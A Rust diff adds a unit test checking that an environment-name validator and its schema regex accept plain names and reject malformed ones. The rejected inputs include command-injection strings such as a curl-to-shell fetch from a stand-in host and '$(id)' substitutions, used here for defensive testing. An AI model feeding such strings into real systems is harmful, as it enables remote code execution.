@@ -21,3 +21,24 @@ pub(super) fn choices(schema: &'static Value) -> Vec<&'static Value> {
     let several = ["anyOf", "oneOf"].into_iter().find_map(|key| schema[key].as_array());
     several.map_or_else(|| vec![schema], |several| several.iter().flat_map(choices).collect())
 }
+
+#[cfg(test)]
+mod tests {
+    use super::schema;
+    use crate::model::EnvironmentName;
+    use regex_lite::Regex;
+
+    #[test]
+    fn branches_and_the_file_are_held_to_one_spelling_of_environments() {
+        let pattern = schema()["$defs"]["EnvironmentName"]["pattern"].as_str().unwrap();
+        let pattern = Regex::new(pattern).unwrap();
+        let plain = "a,Z9,eu staging,a/b.c_d-e,a-,a/";
+        let odd =
+            ",-a,_a,/a, a,a ,\u{e4},a\n,x;curl${IFS}evil|sh,a$(id),a`id`,a&b,a#1,a@b,a'b,a\"b,a{b},a!,a\\b";
+        for (text, fits) in plain.split(',').map(|it| (it, true)).chain(odd.split(',').map(|it| (it, false)))
+        {
+            assert_eq!(EnvironmentName::is_spelled_well(text), fits, "{text:?}");
+            assert_eq!(pattern.is_match(text), fits, "{text:?}");
+        }
+    }
+}
